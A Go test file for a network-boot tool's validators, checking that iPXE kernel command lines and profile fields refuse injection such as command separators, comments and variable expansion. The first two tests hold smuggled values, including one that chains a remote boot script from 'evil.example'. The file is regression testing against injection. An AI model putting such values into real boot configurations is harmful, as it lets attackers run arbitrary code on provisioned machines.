package host_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/bootpilot/bootpilot/internal/host"
)

// TestCheckCmdline: what iPXE would read as anything but arguments of the
// kernel command is refused, with a *host.ValidationError naming the field.
func TestCheckCmdline(t *testing.T) {
	for _, s := range []string{
		"console=ttyS0 ; echo INJECTED ;",
		"; chain http://evil.example/pwn.ipxe ;",
		";",
		"a ;",
		"a || b", "a||b", "a && b", "a&&b",
		"a #b", "a#b", "#a",
		"a=${net0/mac}", "a=$x",
		"-x", "a --name=x",
		`a="b"`, "a='b'", `a\`, `a\b`, "a`b`",
		"a\tb", "a\nb", "a\rb", "a\vb", "a\fb", "a\x00b", "a\x1bb", "é",
	} {
		err := host.CheckCmdline("cmdline", s)
		var ve *host.ValidationError
		if !errors.As(err, &ve) || ve.Field != "cmdline" {
			t.Errorf("CheckCmdline(%q) = %v, want a *host.ValidationError for cmdline", s, err)
		}
	}
	for _, s := range []string{
		"", "console=ttyS0,115200n8 quiet", "ds=nocloud-net;s=https://10.0.2.100:8443/c/", "a; ;b a;b",
		"ip=10.0.2.15::10.0.2.2:255.255.255.0:node01::none", ":a a:", "a-b", "  two  spaces  ",
	} {
		if err := host.CheckCmdline("cmdline", s); err != nil {
			t.Errorf("CheckCmdline(%q) = %v, want nil", s, err)
		}
	}
}

// TestProfileRefusesCommandSeparator: the injection seen on the landed code
// (a bare ';' in a profile's cmdline ran "echo INJECTED" in iPXE) is refused
// when the profile is saved, as a 400 naming the field.
func TestProfileRefusesCommandSeparator(t *testing.T) {
	for _, cmdline := range []string{"console=ttyS0 ; echo INJECTED ;", "; chain http://evil.example/pwn.ipxe ;"} {
		p := host.Profile{Name: "evil", Installer: "kickstart", Kernel: "https://m.example/vmlinuz", Cmdline: cmdline}
		err := p.Normalize()
		var ve *host.ValidationError
		if !errors.As(err, &ve) || ve.Field != "cmdline" || !strings.Contains(ve.Reason, `";"`) {
			t.Errorf("Normalize(cmdline %q) = %v, want a *host.ValidationError for cmdline about \";\"", cmdline, err)
		}
	}
}

func TestCheckWordSemicolon(t *testing.T) {
	if err := host.CheckWord("target_disk", ";"); err == nil {
		t.Errorf("CheckWord(%q) = nil, want an error", ";")
	}
	for _, s := range []string{"a;", ";a", "a;b"} {
		if err := host.CheckWord("w", s); err != nil {
			t.Errorf("CheckWord(%q) = %v, want nil (';' inside a word is plain to iPXE)", s, err)
		}
	}
}
